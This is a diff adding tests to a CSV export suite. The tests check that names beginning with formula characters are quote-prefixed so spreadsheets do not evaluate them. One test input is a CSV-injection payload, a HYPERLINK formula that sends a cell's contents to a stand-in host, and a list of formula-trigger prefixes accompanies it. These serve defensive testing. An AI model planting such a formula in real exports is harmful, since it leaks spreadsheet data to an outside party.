@@ -70,6 +70,21 @@ describe('a CSV export', () => {
     expect([row.role, row.name]).toEqual([role, 'x,y'])
   })
 
+  const formula = '=HYPERLINK("http://192.0.2.1/?"&A2,"open")'
+  it.each([formula, '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1'])(
+    'leaves nothing of a name for a spreadsheet to compute (%j)',
+    (name) => {
+      const named: RunRecord = { kind: 'role', t: 1, pid: 100, tid: 0, role: name }
+      const [row] = table([meta(), born(0, 0, { name }), named, tick(100, { 0: { rss: 1, state: 61 } })])
+      expect([row.role, row.name, row.state]).toEqual([`'${name}`, `'${name}`, "'="])
+    },
+  )
+
+  it('leaves names that are no formula, and numbers below 0, as they are', () => {
+    const [row] = table([meta(), born(0, 0, { name: 'a=b', pid: -7 }), tick(100, { 0: { rss: -1, state: 44 } })])
+    expect([row.name, row.pid, row.rss_bytes, row.state]).toEqual(['a=b', '-7', '-1', ','])
+  })
+
   it.each([1, 2, 3])('says of a recording what it says of the live run (%i)', (seed) => {
     const live = randomRun(seed)
     expect(text(recordedForm(live))).toBe(text(live))
